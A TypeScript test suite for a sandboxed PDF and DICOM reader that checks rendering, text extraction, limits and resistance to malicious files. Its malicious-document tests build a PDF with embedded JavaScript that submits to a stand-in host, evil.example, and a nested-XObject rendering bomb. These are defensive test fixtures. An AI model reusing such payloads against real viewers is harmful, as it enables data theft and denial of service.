import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser } from 'playwright'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { DOCUMENT_FAULTS, type DocumentKind } from '#domain/media/documents'
import { PDF_TEXT_VERSION } from '#domain/media/page-text'
import { aDicom, pictureTags, pixelsTag, SYNTAX } from '../builders/dicom-file'
import { aPdf, filled, type PdfPage } from '../builders/pdf-file'
import { type DocumentReader, openDocumentReader } from '../drivers/document-reader'
import { slowness } from '../drivers/machine'
import { launchChromium } from '../drivers/host-page/reviewer-driver'

const MOST = 4_000_000
const { signal } = new AbortController()
let browser: Browser
let folder: string

beforeAll(async () => {
  browser = await launchChromium()
  folder = await mkdtemp(join(tmpdir(), 'loupe-documents-'))
})
afterAll(async () => {
  await browser.close()
  await rm(folder, { recursive: true, force: true })
})

async function open(limits?: Parameters<typeof openDocumentReader>[1]): Promise<DocumentReader> {
  const reader = await openDocumentReader(browser, limits)
  onTestFinished(() => reader.close())
  return reader
}
async function aFile(name: string, bytes: Uint8Array, kind: DocumentKind = 'pdf') {
  const path = join(folder, name)
  await writeFile(path, bytes)
  return { path, kind }
}
/** Picture as its size and the colour in its middle. */
async function seen(drawn: Awaited<ReturnType<DocumentReader['documents']['draw']>>) {
  if ('reason' in drawn) return drawn.reason
  const { data, info } = await sharp(drawn.picture.path).removeAlpha().raw().toBuffer({ resolveWithObject: true })
  const at = (Math.floor(info.height / 2) * info.width + Math.floor(info.width / 2)) * info.channels
  return { width: info.width, height: info.height, middle: [...data.subarray(at, at + 3)] }
}
/** Content that draws itself ten times on each of these levels. */
function nested(levels: number): readonly string[] {
  return Array.from({ length: levels }, (_, at) => {
    const isLast = at === levels - 1
    const content = isLast ? '0 0 1 1 re f' : '/F Do '.repeat(10)
    const next = isLast ? '' : `/XObject << /F ${100_001 + at} 0 R >>`
    return `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << ${next} >> /Length ${content.length} >>\nstream\n${content}\nendstream`
  })
}

/** Page that would take years to draw. */
const BOMB = aPdf([{ content: '/F Do', forms: '/F 100000 0 R' }], { objects: nested(9) })

describe('the document reader’s page', () => {
  it('counts and renders the pages of a PDF document, and requests only its own origin [S2.9]', async () => {
    const { documents, asked, said, pages } = await open()
    const file = await aFile('three.pdf', aPdf([{}, { content: filled(1, 0, 0) }, { width: 72, height: 144 }]))
    expect(await documents.count(file, { text: true }, signal)).toEqual({ count: 3, hasText: false })
    expect(await seen(await documents.draw(file, 1, MOST, signal))).toEqual({
      width: 833,
      height: 555,
      middle: [255, 255, 255],
    })
    expect(await seen(await documents.draw(file, 2, MOST, signal))).toMatchObject({ middle: [255, 0, 0] })
    expect(await seen(await documents.draw(file, 3, MOST, signal))).toMatchObject({ width: 200, height: 400 })
    expect(await seen(await documents.draw(file, 4, MOST, signal))).toBe(DOCUMENT_FAULTS.damaged)
    expect(asked.filter(({ address }) => /^\w+:/.test(address))).toEqual([])
    expect(said.filter((text) => /Content Security|Refused/.test(text))).toEqual([])
    expect(pages).toHaveLength(1)
  })

  it('extracts a PDF document’s text in reading order, and reports one without text [S2.9]', async () => {
    const { documents } = await open()
    const words = (...lines: readonly string[]) =>
      `BT /F1 12 Tf 14 TL 20 150 Td ${lines.map((line) => `(${line}) Tj T*`).join(' ')} ET`
    const letter = [
      { content: words('Dear Ada,', 'the ship is in.') },
      { content: filled(1, 0, 0) },
      { content: words('Yours') },
    ]
    const file = await aFile('letter.pdf', aPdf(letter))
    expect(await documents.count(file, { text: true }, signal)).toEqual({ count: 3, hasText: true })
    expect(PDF_TEXT_VERSION).toBe(1)
    expect(await documents.text(file, 3, signal)).toEqual({ text: 'Dear Ada,\nthe ship is in.\f\fYours' })
    const scanned = await aFile('scanned.pdf', aPdf([{ content: filled(1, 0, 0) }, {}]))
    expect(await documents.count(scanned, { text: true }, signal)).toEqual({ count: 2, hasText: false })
    expect(await documents.text(scanned, 2, signal)).toEqual({ reason: DOCUMENT_FAULTS.noText })
  })

  it('renders fonts that a document doesn’t embed, including Chinese ones, from bundled data', async () => {
    const { documents, asked } = await open()
    const descendant =
      '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /SimSun /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /FontDescriptor 100002 0 R >>'
    const objects = [
      '<< /Type /Font /Subtype /Type0 /BaseFont /SimSun /Encoding /UniGB-UCS2-H /DescendantFonts [100001 0 R] >>',
      descendant,
      '<< /Type /FontDescriptor /FontName /SimSun /Flags 4 /ItalicAngle 0 /Ascent 859 /Descent -140 >>',
    ]
    const chinese = aPdf([{ content: 'BT /F2 80 Tf 20 90 Td <4E2D6587> Tj ET', fonts: '/F2 100000 0 R' }], { objects })
    await documents.draw(await aFile('chinese.pdf', chinese), 1, MOST, signal)
    expect(asked).toContainEqual({ address: '/cmaps/UniGB-UCS2-H.bcmap', status: 200 })
    const own = aPdf([{ content: 'BT /F1 80 Tf 20 90 Td (Abc) Tj ET' }])
    const plain = await documents.draw(await aFile('plain.pdf', own), 1, MOST, signal)
    if ('reason' in plain) throw new Error(plain.reason)
    const { data } = await sharp(plain.picture.path).greyscale().raw().toBuffer({ resolveWithObject: true })
    expect(data.filter((value) => value < 100).length).toBeGreaterThan(2_000)
    expect(asked.filter(({ address }) => address.startsWith('/fonts/'))).toContainEqual(
      expect.objectContaining({ status: 200 }),
    )
  })

  it('counts and renders the frames of a DICOM file, and passes on nothing but pixels [S2.9]', async () => {
    const { documents } = await open()
    const pixels = Uint8Array.from({ length: 2 * 60 * 40 }, (_, at) => (at < 2_400 ? at % 256 : 255 - (at % 256)))
    const file = await aFile(
      'two.dcm',
      aDicom({ ...pictureTags(60, 40, { frames: 2 }), ...pixelsTag(pixels) }),
      'dicom',
    )
    expect(await documents.count(file, { text: true }, signal)).toEqual({ count: 2, width: 60, height: 40 })
    const first = await documents.draw(file, 1, MOST, signal)
    if ('reason' in first) throw new Error(first.reason)
    const raw = await sharp(first.picture.path).removeAlpha().raw().toBuffer({ resolveWithObject: true })
    expect([...raw.data.subarray(0, 6)]).toEqual([0, 0, 0, 1, 1, 1])
    expect((await readFile(first.picture.path)).includes('Doe')).toBe(false)
    expect(await seen(await documents.draw(file, 2, 2_000, signal))).toBe(DOCUMENT_FAULTS.tooLarge)
    const jpeg = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#3366cc' } })
      .jpeg({ quality: 100, chromaSubsampling: '4:4:4' })
      .toBuffer()
    const photo = await aFile(
      'photo.dcm',
      aDicom(pictureTags(60, 40, { photometric: 'YBR_FULL_422' }), SYNTAX.jpeg, [jpeg]),
      'dicom',
    )
    const shown = await seen(await documents.draw(photo, 1, MOST, signal))
    if (typeof shown === 'string') throw new Error(shown)
    for (const [at, value] of [51, 102, 204].entries())
      expect(Math.abs((shown.middle[at] ?? 0) - value)).toBeLessThan(3)
    const deflated = await aFile(
      'deflated.dcm',
      aDicom({ ...pictureTags(2, 1), ...pixelsTag(Uint8Array.from([0, 9])) }, SYNTAX.deflated),
      'dicom',
    )
    expect(await documents.count(deflated, { text: true }, signal)).toEqual({ count: 1, width: 2, height: 1 })
  })

  it('says why a document gives no pictures', async () => {
    const { documents } = await open()
    const key = `<${'ab'.repeat(32)}>`
    const locked = aPdf([{}], {
      objects: [`<< /Filter /Standard /V 1 /R 2 /P -4 /O ${key} /U ${key} >>`],
      trailer: '/Encrypt 100000 0 R /ID [<aa> <aa>]',
    })
    const cases: readonly (readonly [string, Uint8Array, DocumentKind, string])[] = [
      ['locked.pdf', locked, 'pdf', DOCUMENT_FAULTS.locked],
      ['torn.pdf', aPdf([{}]).subarray(0, 80), 'pdf', DOCUMENT_FAULTS.damaged],
      ['noise.pdf', Buffer.from(`%PDF-1.7\n${'x'.repeat(5_000)}`), 'pdf', DOCUMENT_FAULTS.damaged],
      ['lung.dcm', aDicom(pictureTags(2, 1), SYNTAX.jpeg2000, [Buffer.alloc(9)]), 'dicom', DOCUMENT_FAULTS.jpeg2000],
      ['text.dcm', aDicom({ '00080060': ['CS', 'SR'] }), 'dicom', DOCUMENT_FAULTS.noPicture],
    ]
    for (const [name, bytes, kind, problem] of cases) {
      expect([name, await documents.count(await aFile(name, bytes, kind), { text: true }, signal)]).toEqual([
        name,
        { problem },
      ])
    }
    expect(await documents.count({ path: join(folder, 'gone.pdf'), kind: 'pdf' }, { text: true }, signal)).toEqual({
      problem: 'It was deleted.',
    })
  })
})

describe('a malicious document', () => {
  it('runs no script, follows no link, and can’t claim missing pages [S2.9]', async () => {
    const { documents, asked, said } = await open()
    const script = '<< /S /JavaScript /JS (app.alert\\("here"\\); this.submitForm\\("https://evil.example/"\\)) >>'
    const launched = '<< /S /URI /URI (https://evil.example/) >>'
    const bytes = aPdf([{ content: filled(0, 1, 0) }, {}, {}], {
      claimed: 100_000,
      catalogue:
        '/OpenAction 100000 0 R /AA << /WC 100001 0 R >> /Names << /JavaScript << /Names [(a) 100000 0 R] >> >>',
      objects: [script, launched],
    })
    const file = await aFile('script.pdf', bytes)
    expect(await documents.count(file, { text: true }, signal)).toMatchObject({ count: 3 })
    expect(await seen(await documents.draw(file, 1, MOST, signal))).toMatchObject({ middle: [0, 255, 0] })
    expect(asked.filter(({ address }) => address.includes('evil'))).toEqual([])
    expect(said.filter((text) => text.includes('here'))).toEqual([])
  })

  it('is rendered within the project’s limits, whatever size it claims', async () => {
    const { documents } = await open()
    const huge: readonly PdfPage[] = [
      { width: 2_000_000, height: 2_000_000, content: 'q 20000 0 0 20000 0 0 cm 0 0 1 rg 0 0 100 100 re f Q' },
      { width: 1, height: 1_000_000 },
    ]
    const file = await aFile('huge.pdf', aPdf(huge))
    expect(await seen(await documents.draw(file, 1, MOST, signal))).toEqual({
      width: 2_000,
      height: 2_000,
      middle: [0, 0, 255],
    })
    expect(await seen(await documents.draw(file, 2, MOST, signal))).toBe(DOCUMENT_FAULTS.narrow)
  })

  it('is abandoned when it takes too long, and the next one is read', async () => {
    const { documents, pages } = await open({ countMs: 30_000, drawMs: 3_000 })
    const file = await aFile('bomb.pdf', BOMB)
    expect(await documents.draw(file, 1, MOST, signal)).toEqual({ reason: DOCUMENT_FAULTS.slow })
    const good = await aFile('good.pdf', aPdf([{ content: filled(1, 0, 0) }]))
    expect(await seen(await documents.draw(good, 1, MOST, signal))).toMatchObject({ middle: [255, 0, 0] })
    expect(pages).toHaveLength(2)
  })

  it('crashes only its own page: the file is named, and the next one is read', async () => {
    const { documents, pages } = await open()
    const good = await aFile('still good.pdf', aPdf([{ content: filled(1, 0, 0) }]))
    await documents.draw(good, 1, MOST, signal)
    // While it still listens: an endlessly drawing page accepts no new session.
    const session = await browser
      .contexts()
      .at(-1)
      ?.newCDPSession(pages.at(-1) ?? raise())
    const crashing = documents.draw(await aFile('bomb 2.pdf', BOMB), 1, MOST, signal)
    // Chromium ends the page's process; the command itself gets no answer.
    void session?.send('Page.crash').catch(() => undefined)
    expect(await crashing).toEqual({ reason: DOCUMENT_FAULTS.stopped })
    expect(await seen(await documents.draw(good, 1, MOST, signal))).toMatchObject({ middle: [255, 0, 0] })
    expect(pages).toHaveLength(2)
  })

  it('can be cancelled at once', async () => {
    const { documents } = await open()
    const stop = new AbortController()
    const drawing = documents.draw(await aFile('bomb 3.pdf', BOMB), 1, MOST, stop.signal)
    setTimeout(() => stop.abort(), 300)
    expect(await drawing).toHaveProperty('reason')
    const good = await aFile('good again.pdf', aPdf([{ content: filled(1, 0, 0) }]))
    expect(await seen(await documents.draw(good, 1, MOST, signal))).toMatchObject({ middle: [255, 0, 0] })
  })
})

describe('how fast documents are read', () => {
  it('a page of text and a slice of a scan take a fraction of a second, and a look at a document less', async () => {
    const { documents } = await open()
    const lines = Array.from(
      { length: 50 },
      (_, at) => `1 0 0 1 50 ${740 - at * 14} Tm (${'Loupe reads a line. '.repeat(4)}) Tj`,
    )
    const content = `BT /F1 10 Tf ${lines.join(' ')} ET`
    const pages = 40
    const book = await aFile(
      'book.pdf',
      aPdf(Array.from({ length: pages }, () => ({ width: 612, height: 792, content }))),
    )
    const slices = 40
    const values = new Uint16Array(512 * 512 * slices).map((_, at) => (at * 7_919) % 4_096)
    const tags = pictureTags(512, 512, { bits: 16, stored: 12, frames: slices })
    const scan = await aFile('ct.dcm', aDicom({ ...tags, ...pixelsTag(Buffer.from(values.buffer)) }), 'dicom')
    const perSecond = async (file: typeof book, count: number): Promise<number> => {
      const began = performance.now()
      for (let page = 1; page <= count; page += 1) {
        expect(await documents.draw(file, page, MOST, signal)).toHaveProperty('picture')
      }
      return (count * 1_000) / (performance.now() - began)
    }
    await documents.draw(book, 1, MOST, signal)
    const [text, grey] = [await perSecond(book, pages), await perSecond(scan, slices)]
    const few = await Promise.all(
      Array.from({ length: 30 }, (_, at) => aFile(`look ${at}.pdf`, aPdf([{ content }, { content }]))),
    )
    const began = performance.now()
    for (const file of few)
      expect(await documents.count(file, { text: true }, signal)).toEqual({ count: 2, hasText: true })
    const looks = (few.length * 1_000) / (performance.now() - began)
    console.log(
      `documents: ${text.toFixed(1)} pages of text of 1,700 × 2,200, ${grey.toFixed(1)} slices of 512 × 512 and ${looks.toFixed(0)} looks in a second`,
    )
    expect(Math.min(text, grey, looks) * slowness()).toBeGreaterThan(2)
  })
})

function raise(): never {
  throw new Error('no page was started')
}
